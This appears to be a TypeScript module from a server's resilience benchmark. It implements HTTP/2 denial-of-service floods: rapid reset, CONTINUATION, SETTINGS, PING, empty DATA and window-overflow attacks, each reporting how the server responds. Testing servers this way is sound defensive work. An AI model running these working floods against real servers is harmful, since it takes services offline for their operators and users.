import { encodeFrame, frameTypes, requestHeaders, uint32 } from '../../bench/load/frames.ts';
import { pathOf } from '../../bench/load/messages.ts';
import { framed, reportBody } from '../../bench/payload.ts';
import type { Attacker, AttackerContext, Counts } from '../attacker.ts';
import { callHead, connectRaw, dataFrame, type RawConnection, resetFrame } from '../wire/connection.ts';

interface Flood {
  /** What goes first on each connection. */
  readonly start?: (connection: RawConnection) => Uint8Array;
  /** The next `count` units, of which `sent` have been sent on this connection. */
  readonly units: (sent: number, count: number) => Uint8Array;
  readonly deaf?: boolean;
}

const together = 500;
const hangUpAfter = 1_000;

const repeated = (frame: Uint8Array, count: number): Buffer =>
  Buffer.concat(Array.from({ length: count }, () => frame));

// Connection after connection, since most servers close one soon; what is left goes on the next.
const flood = async (
  { address, amount, late }: AttackerContext,
  { start, units, deaf = false }: Flood,
): Promise<Counts> => {
  const counts = { sent: 0, connections: 0, 'closed by the server': 0, 'calls answered': 0, 'streams reset': 0 };
  while (counts.sent < amount && !late()) {
    const connection = connectRaw(address, { deaf });
    counts.connections++;
    if (start) await connection.send(start(connection));
    for (let here = 0; counts.sent < amount && !late();) {
      const count = Math.min(together, amount - counts.sent);
      if (!(await connection.send(units(here, count)))) break;
      here += count;
      counts.sent += count;
    }
    if (await connection.closedWithin(hangUpAfter)) counts['closed by the server']++;
    else connection.close();
    counts['calls answered'] += connection.heard.headers;
    counts['streams reset'] += connection.heard.resets;
  }
  return counts;
};

const streamOf = (number: number): number => 2 * number + 1;

const rapidReset: Attacker = (context) =>
  flood(context, {
    units: (sent, count) =>
      Buffer.concat(
        Array.from({ length: count }, (_, at) => {
          const stream = streamOf(sent + at);
          return Buffer.concat([callHead(stream), resetFrame(stream)]);
        }),
      ),
  });

const request = framed(reportBody());

const rapidResetWithBodies: Attacker = (context) =>
  flood(context, {
    units: (sent, count) =>
      Buffer.concat(
        Array.from({ length: count }, (_, at) => {
          const stream = streamOf(sent + at);
          return Buffer.concat([callHead(stream), dataFrame(stream, request, true), resetFrame(stream)]);
        }),
      ),
  });

// A literal header of its own in each frame, never to be indexed (RFC 7541 §6.2.3).
const header = Buffer.concat([Buffer.from([0x10, 3]), Buffer.from('x-a'), Buffer.from([3]), Buffer.from('bbb')]);

const continuation: Attacker = (context) =>
  flood(context, {
    start: () => encodeFrame(frameTypes.headers, 0, 1, requestHeaders('localhost', pathOf('ReportAlert'))),
    units: (_, count) => repeated(encodeFrame(frameTypes.continuation, 0, 1, header), count),
  });

const settings: Attacker = (context) =>
  flood(context, {
    deaf: true,
    units: (_, count) => repeated(encodeFrame(frameTypes.settings, 0, 0, Buffer.alloc(0)), count),
  });

const ping: Attacker = (context) =>
  flood(context, {
    deaf: true,
    units: (_, count) => repeated(encodeFrame(frameTypes.ping, 0, 0, Buffer.alloc(8)), count),
  });

const emptyData: Attacker = (context) =>
  flood(context, {
    start: () => callHead(1, 'ReportAlerts'),
    units: (_, count) => repeated(dataFrame(1, Buffer.alloc(0)), count),
  });

// Nobody may have a window of more than 2^31 - 1 (RFC 9113 §6.9.1): each connection breaks that at once.
const windowOverflow: Attacker = async ({ address, amount, late }) => {
  const counts = { sent: 0, connections: 0, 'closed by the server': 0 };
  const update = encodeFrame(frameTypes.windowUpdate, 0, 0, uint32(0x7fff_ffff));
  while (counts.sent < amount && !late()) {
    const batch = Array.from({ length: Math.min(100, amount - counts.sent) }, () => connectRaw(address));
    await Promise.all(batch.map((each) => each.send(Buffer.concat([update, update]))));
    counts.sent += batch.length;
    counts.connections += batch.length;
    for (const each of batch) if (await each.closedWithin(hangUpAfter)) counts['closed by the server']++;
    for (const each of batch) each.close();
  }
  return counts;
};

/** Floods of frames that are each allowed, or nearly so. */
export const floods = {
  'rapid-reset': rapidReset,
  'rapid-reset-bodies': rapidResetWithBodies,
  continuation,
  settings,
  ping,
  'empty-data': emptyData,
  'window-overflow': windowOverflow,
} satisfies Readonly<Record<string, Attacker>>;
